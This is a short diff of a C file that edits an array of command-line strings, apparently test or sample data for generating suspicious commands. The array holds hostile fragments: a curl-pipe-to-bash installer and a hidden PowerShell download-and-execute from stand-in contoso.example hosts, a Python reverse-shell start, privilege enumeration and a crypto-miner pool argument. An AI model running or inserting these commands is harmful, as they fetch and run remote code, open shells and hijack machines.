@@ -66,8 +66,8 @@ const char *const gen_commands[] = {
     "-fsSL https://pkg.contoso.example/install.sh | bash -s --",
     "-c \\\"import socket,os,pty;s=socket.socket()\\\"",
     "/c whoami /all && net localgroup administrators",
-    "-w hidden -nop -c IEX(New-Object Net.WebClient)"
-    ".DownloadString('https://cdn.contoso.example/')",
+    ("-w hidden -nop -c IEX(New-Object Net.WebClient)"
+     ".DownloadString('https://cdn.contoso.example/')"),
     "--donate-level 1 -o pool.contoso.example:3333 -u",
 };
 const size_t gen_commands_n = COUNT(gen_commands);
